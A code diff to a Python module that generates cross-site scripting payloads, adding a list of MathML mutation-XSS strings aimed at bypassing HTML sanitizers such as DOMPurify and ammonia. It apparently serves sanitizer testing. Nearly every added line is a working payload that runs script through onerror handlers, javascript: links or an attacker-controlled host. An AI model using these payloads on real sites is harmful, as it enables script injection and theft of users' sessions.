@@ -69,6 +69,7 @@ def svg_vectors() -> list[str]:
 def mutation_xss() -> list[str]:
     img = f"<img src=x onerror={RUN}>"
     return [
+        *mathml_mutations(img),
         f'<noscript><p title="</noscript>{img}">', f'<svg></p><style><a id="</style>{img}">',
         f"<math><mtext><table><mglyph><style>{img}", f"<style>{img}</style>",
         f"<title>{img}</title>", f"<textarea>{img}</textarea>", f"<template>{img}</template>",
@@ -81,6 +82,35 @@ def mutation_xss() -> list[str]:
         f"<iframe><p>{img}</p></iframe>", f'<a title="--><img src=x onerror={RUN}>">a</a>',
         f"<svg><desc><style>{img}</style></desc></svg>", f"<table><style>{img}</style></table>",
         f"<!-- --!><img src=x onerror={RUN}> -->",
+    ]
+
+
+def mathml_mutations(img: str) -> list[str]:
+    """MathML, where sanitizer bypasses keep turning up: DOMPurify #482 and #495, ammonia's
+    RUSTSEC-2025-0071 (foreign content mutating after removal) and RUSTSEC-2026-0193
+    (annotation-xml read as MathML once its encoding is stripped)."""
+    return [
+        f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{img}\">",
+        f"<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style>{img}\">",
+        f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>{img}\"></style></h1>",
+        f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{img}\">",
+        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
+        f"<math><mtext><table><mglyph><style><math href=javascript:{RUN}>CLICKME</math>",
+        f'<math><annotation-xml encoding="text/html">{img}</annotation-xml></math>',
+        f'<math><annotation-xml encoding="text/html"><p><style><p title="</style>{img}"></style>',
+        f'<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><svg><style>{img}',
+        f'<math><annotation-xml><svg><style><a title="</style>{img}">',
+        f'<math><semantics><mi>x</mi><annotation encoding="text/html">{img}</annotation></semantics></math>',
+        f'<math><annotation><style><a title="</style>{img}"></style></annotation></math>',
+        f"<math></p><textarea><mi><style></textarea>{img}</mi></math>",
+        f"<svg></p><math><title><style>{img}</style></title>",
+        f"<svg><math><mtext><style>{img}</style></mtext></math></svg>",
+        f"<math><mi><table><tr><td><style>{img}", f"<math><mtext><noscript><style></noscript>{img}",
+        f"<math><ms><svg><foreignObject>{img}</foreignObject></svg></ms></math>",
+        f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
+        f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x<mtext>y</mtext></maction></math>',
+        f'<math><mi href="{EVIL}">x</mi><mglyph src="{EVIL}/g.png"></mglyph><malignmark></malignmark></math>',
+        f'<math><mi style="background: url({EVIL}/x.png)" onclick="{RUN}">x</mi></math>',
     ]
 
 
